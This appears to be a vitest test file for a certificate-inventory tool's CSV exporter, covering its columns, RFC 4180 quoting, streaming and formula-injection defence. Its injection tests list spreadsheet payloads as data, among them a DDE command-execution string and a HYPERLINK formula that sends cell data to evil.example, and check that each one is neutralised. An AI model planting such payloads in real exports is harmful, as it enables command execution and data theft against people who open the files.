// The CSV exporter: documented columns, RFC 4180 round trips, the formula-injection rule, and real streaming.
import { Writable } from 'node:stream';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCertificate, analyseDer } from '#shared/findings/index';
import type { AnalysisContext, Finding } from '#shared/findings/index';
import { CSV_HEADER, csvTextCell, findingsToCsv, writeFindingsCsv } from '#shared/export/index';
import { generateInventory } from '#shared/simulator/generator/index';

const NOW = new Date('2026-01-01T00:00:00.000Z');
const context: AnalysisContext = {
  now: NOW,
  sensor: { name: 'kfsensor', version: '0.1.0', ranBy: 'test' },
  source: { url: null },
};

/** A minimal RFC 4180 reader, written independently of the exporter: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (c === '\r' || c === '\n' || c === '"') {
      throw new Error(`bare ${JSON.stringify(c)} at ${i}: not RFC 4180`);
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

const DOCUMENTED_COLUMNS = [
  'finding_id',
  'command_certificate_id',
  'common_name',
  'subject',
  'issuer',
  'serial_number',
  'not_before',
  'not_after',
  'days_to_expiry',
  'key_algorithm',
  'key_size_bits',
  'curve',
  'signature_algorithm',
  'signature_hash',
  'san_dns',
  'highest_severity',
  'rule_ids',
  'pqc_readiness',
  'cert_state',
  'template',
  'certificate_authority',
  'store_locations',
  'analysis_status',
  'parse_error',
  'source_file',
];

const column = (name: string): number => {
  const index = DOCUMENTED_COLUMNS.indexOf(name);
  if (index < 0) throw new Error(`no column ${name}`);
  return index;
};

let findings: Finding[];

beforeAll(() => {
  findings = generateInventory({ seed: 3, count: 200, now: NOW }).map((c) => analyseCertificate(c, context));
});

function first(): Finding {
  const finding = findings.find(
    (f) => f.crypto.x509.keyfactor !== null && (f.crypto.x509.subject_alt_names?.dns.length ?? 0) > 0,
  );
  if (finding === undefined) throw new Error('no analysed finding');
  return finding;
}

/** A real finding whose attacker-controllable text fields are replaced by `text`. */
function withText(text: string): Finding {
  const base = structuredClone(first());
  const x509 = base.crypto.x509;
  x509.common_name = text;
  if (x509.subject) x509.subject.dn = text;
  if (x509.issuer) x509.issuer.dn = `CN=${text}`;
  if (x509.subject_alt_names) x509.subject_alt_names.dns = [text, 'b.example.com'];
  if (x509.keyfactor) x509.keyfactor.template_name = text;
  return base;
}

const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV columns', () => {
  it('writes the documented header and one CRLF record per finding, every record as wide as the header', () => {
    expect(CSV_HEADER).toEqual(DOCUMENTED_COLUMNS);
    const csv = findingsToCsv(findings);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(csv);
    expect(records[0]).toEqual(DOCUMENTED_COLUMNS);
    expect(records).toHaveLength(findings.length + 1);
    for (const record of records) expect(record).toHaveLength(DOCUMENTED_COLUMNS.length);
  });

  it('fills each column from the finding it claims to show', () => {
    const finding = first();
    const x509 = finding.crypto.x509;
    const record = parseCsv(findingsToCsv([finding]))[1] ?? [];
    const cell = (name: string) => record[column(name)];
    expect(cell('finding_id')).toBe(finding.id);
    expect(cell('command_certificate_id')).toBe(String(finding.observation.source.certificate_id));
    expect(cell('subject')).toBe(x509.subject?.dn);
    expect(cell('issuer')).toBe(x509.issuer?.dn);
    expect(cell('serial_number')).toBe(x509.serial_number);
    expect(cell('not_after')).toBe(x509.not_after);
    expect(cell('key_algorithm')).toBe(x509.public_key?.algorithm);
    expect(cell('key_size_bits')).toBe(String(x509.public_key?.key_size_bits));
    expect(cell('signature_algorithm')).toBe(x509.signature?.algorithm_name);
    expect(cell('signature_hash')).toBe(x509.signature?.hash);
    expect(cell('san_dns')).toBe(x509.subject_alt_names?.dns.join(';') ?? '');
    expect(cell('rule_ids')).toBe(finding.analysis.rules.map((r) => r.id).join(';'));
    expect(cell('highest_severity')).toBe(finding.analysis.highest_severity);
    expect(cell('pqc_readiness')).toBe(finding.analysis.pqc?.readiness);
    expect(cell('cert_state')).toBe(x509.keyfactor?.cert_state.name);
    expect(cell('store_locations')).toBe(String(x509.keyfactor?.locations.length));
    expect(cell('analysis_status')).toBe('analysed');
    expect(cell('parse_error')).toBe('');
    const days = Math.floor((Date.parse(x509.not_after ?? '') - NOW.getTime()) / 86_400_000);
    expect(cell('days_to_expiry')).toBe(String(days));
  });

  it('keeps a negative day count numeric for expired certificates (no apostrophe)', () => {
    const expired = findings.find((f) => f.analysis.rules.some((r) => r.id === 'KFS-VAL-001'));
    if (expired === undefined) throw new Error('no expired certificate in the inventory');
    const record = parseCsv(findingsToCsv([expired]))[1] ?? [];
    expect(record[column('days_to_expiry')]).toMatch(/^-\d+$/);
  });

  it('shows parse errors with their reason and leaves certificate columns empty', () => {
    const unreadable = analyseDer(Buffer.from('garbage'), { ...context, filePath: 'bad.der' });
    const record = parseCsv(findingsToCsv([unreadable]))[1] ?? [];
    expect(record[column('analysis_status')]).toBe('parse-error');
    expect(record[column('parse_error')]).toMatch(
      new RegExp(`^${unreadable.analysis.parse_error?.reason}: `),
    );
    expect(record[column('source_file')]).toBe('bad.der');
    expect(record[column('subject')]).toBe('');
    expect(record[column('days_to_expiry')]).toBe('');
    expect(record[column('command_certificate_id')]).toBe('');
  });

  it('never writes key material', () => {
    const csv = findingsToCsv(findings);
    for (const finding of findings.slice(0, 50)) {
      expect(csv).not.toContain(finding.crypto.x509.public_key?.spki_sha256);
    }
    expect(csv).not.toMatch(/[A-Za-z0-9+/]{120,}/);
  });
});

describe('CSV formula injection', () => {
  const payloads = [
    `=cmd|' /C calc'!A0`,
    '+1',
    '-2',
    '@SUM(1+1)*cmd|',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
  ];

  it.each(payloads)('neutralises %j with a leading apostrophe in every text column', (payload) => {
    const records = parseCsv(findingsToCsv([withText(payload)]));
    const record = records[1] ?? [];
    expect(record[column('common_name')]).toBe(`'${payload}`);
    expect(record[column('subject')]).toBe(`'${payload}`);
    expect(record[column('template')]).toBe(`'${payload}`);
    // Not at the start of the cell: harmless, left as it is.
    expect(record[column('issuer')]).toBe(`CN=${payload}`);
    expect(record[column('san_dns')]).toBe(`'${payload};b.example.com`);
  });

  it('round-trips embedded quotes, commas and line breaks through RFC 4180 quoting', () => {
    const tricky = 'Acme, "Inc"\r\nline two\nline three';
    expect(csvTextCell(tricky)).toBe('"Acme, ""Inc""\r\nline two\nline three"');
    const record = parseCsv(findingsToCsv([withText(tricky)]))[1] ?? [];
    expect(record[column('common_name')]).toBe(tricky);
    expect(record[column('subject')]).toBe(tricky);
  });

  it('leaves harmless text alone (no quoting, no apostrophe)', () => {
    expect(csvTextCell('www.example.com')).toBe('www.example.com');
    expect(csvTextCell("O'Brien")).toBe("O'Brien");
    expect(csvTextCell(' =1')).toBe(' =1');
    expect(csvTextCell('')).toBe('');
  });

  it('for any text: the parsed cell is the text, with one apostrophe added exactly when it starts with a trigger', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 30 }),
      fc
        .tuple(fc.constantFrom(...FORMULA_TRIGGERS, '"', ',', '\n', "'"), fc.string({ maxLength: 20 }))
        .map(([start, rest]) => start + rest),
    );
    fc.assert(
      fc.property(text, (value) => {
        const record = parseCsv(findingsToCsv([withText(value)]))[1] ?? [];
        const cell = record[column('common_name')] ?? '';
        const triggered = FORMULA_TRIGGERS.some((trigger) => value.startsWith(trigger));
        expect(cell).toBe(triggered ? `'${value}` : value);
        expect(FORMULA_TRIGGERS.some((trigger) => cell.startsWith(trigger))).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

/** A slow sink with a small buffer, as a file or a pipe looks under load. */
class SlowSink extends Writable {
  bytes = 0;
  records = 0;

  constructor() {
    super({ highWaterMark: 16 * 1024, decodeStrings: false });
  }

  override _write(
    chunk: string | Buffer,
    _encoding: BufferEncoding,
    callback: (error?: Error | null) => void,
  ): void {
    const text = chunk.toString();
    this.bytes += Buffer.byteLength(text);
    for (let i = text.indexOf('\r\n'); i >= 0; i = text.indexOf('\r\n', i + 2)) this.records++;
    setImmediate(callback);
  }
}

describe('CSV streaming', () => {
  it('writes the same text from an array, a generator and an async generator as the string helper', async () => {
    const expected = findingsToCsv(findings);
    const collect = async (source: Iterable<Finding> | AsyncIterable<Finding>) => {
      let text = '';
      const sink = new Writable({
        write(chunk: Buffer, _encoding, callback) {
          text += chunk.toString();
          callback();
        },
      });
      await writeFindingsCsv(source, sink);
      return text;
    };
    async function* slowly(): AsyncGenerator<Finding> {
      for (const finding of findings) {
        await Promise.resolve();
        yield finding;
      }
    }
    expect(await collect(findings)).toBe(expected);
    expect(await collect(findings.values())).toBe(expected);
    expect(await collect(slowly())).toBe(expected);
  });

  it('pulls findings only as fast as the output drains, so a million rows never pile up in memory', async () => {
    const finding = first();
    const total = 1_000_000;
    const sink = new SlowSink();
    let produced = 0;
    let furthestAhead = 0;
    function* endless(): Generator<Finding> {
      for (let i = 0; i < total; i++) {
        produced++;
        // Header is one record; rows handed to the sink are records - 1.
        furthestAhead = Math.max(furthestAhead, produced - (sink.records - 1));
        yield finding;
      }
    }
    const rows = await writeFindingsCsv(endless(), sink);
    expect(rows).toBe(total);
    expect(sink.records).toBe(total + 1);
    // One 64 KiB batch plus the sink's 16 KiB buffer is a few hundred rows; a writer that buffered would be far ahead.
    expect(furthestAhead).toBeLessThan(2_000);
  }, 120_000);

  it('rejects instead of hanging when the output is already closed', async () => {
    const sink = new SlowSink();
    sink.destroy();
    await expect(writeFindingsCsv(findings, sink)).rejects.toThrow(/closed/);
  });
});
